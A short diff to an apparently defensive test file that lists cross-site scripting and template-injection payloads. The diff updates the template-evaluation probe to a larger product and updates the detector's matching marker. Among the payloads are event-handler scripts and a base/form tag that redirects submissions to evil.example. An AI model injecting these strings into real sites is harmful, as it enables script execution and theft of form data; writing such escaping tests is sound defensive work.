@@ -39,7 +39,7 @@ PAYLOADS = (
     "' onmouseover=pwned() x='",
     "</title></textarea></select></pre><svg onload=pwned()>",
     '<a href="javascript:pwned()">x</a>',
-    "{{7*191}}{% raw %}%(name)s",
+    "{{7919*7907}}{% raw %}%(name)s",
     "</script><!--",
     "<base href=//evil.example><form action=//evil.example>",
     "<style>*{display:none}</style>\N{RIGHT-TO-LEFT OVERRIDE}",
@@ -68,7 +68,7 @@ class _Harm(HTMLParser):
 def _harm(html: str) -> list[str]:
     parser = _Harm()
     parser.feed(html)
-    return parser.found + (["worked out"] if "1337" in html else [])
+    return parser.found + (["worked out"] if "62615533" in html else [])
 
 
 def test_what_would_act_is_seen() -> None:
